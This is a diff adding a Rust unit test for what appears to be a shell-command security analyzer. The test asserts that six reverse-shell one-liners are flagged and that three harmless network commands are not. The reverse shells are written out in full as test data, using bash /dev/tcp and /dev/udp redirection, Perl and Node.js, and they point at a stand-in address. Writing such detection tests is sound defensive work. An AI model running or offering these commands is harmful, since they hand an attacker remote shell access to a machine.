@@ -781,6 +781,44 @@ pub(crate) fn sub_inv(inv: &Inv, argv: Vec<Arg>, wrapper: &str) -> Inv {
 mod tests {
     use super::*;
 
+    /// Issue 11, reverse shells by shape: a socket wired to a shell's stdio, whatever the
+    /// wrapper, the peer's spelling or the interpreter.
+    #[test]
+    fn sockets_wired_to_a_shell_are_reverse_shells() {
+        let ctx = crate::ShellContext {
+            cwd: "/home/dev/project".into(),
+            home: "/home/dev".into(),
+            project_dir: Some("/home/dev/project".into()),
+        };
+        for cmd in [
+            "exec 5<>/dev/tcp/203.0.113.5/443; cat <&5 | while read l; do $l 2>&5 >&5; done",
+            "0<&196;exec 196<>/dev/tcp/203.0.113.5/443; sh <&196 >&196 2>&196",
+            "env sh -i >& /dev/udp/203.0.113.5/53 0>&1",
+            "nohup bash -i >& /dev/tcp/203.0.113.5/443 0>&1",
+            r#"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));exec("/bin/sh -i");'"#,
+            r#"node -e 'const n=require("net"),c=require("child_process");const s=n.connect(443,h);const p=c.spawn("/bin/sh");s.pipe(p.stdin)'"#,
+        ] {
+            let f = crate::analyze(cmd, &ctx);
+            assert!(
+                f.remote_exec.iter().any(|r| r.kind == "reverse_shell"),
+                "{cmd}: {:?}",
+                f.remote_exec
+            );
+        }
+        for cmd in [
+            "exec 3<>/dev/tcp/example.com/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
+            "echo ping > /dev/tcp/127.0.0.1/8080",
+            "bash -c 'cat < /dev/tcp/time.nist.gov/13'",
+        ] {
+            let f = crate::analyze(cmd, &ctx);
+            assert!(
+                f.remote_exec.iter().all(|r| r.kind != "reverse_shell"),
+                "{cmd}: {:?}",
+                f.remote_exec
+            );
+        }
+    }
+
     #[test]
     fn globs() {
         assert!(glob_match("r?", "rm"));
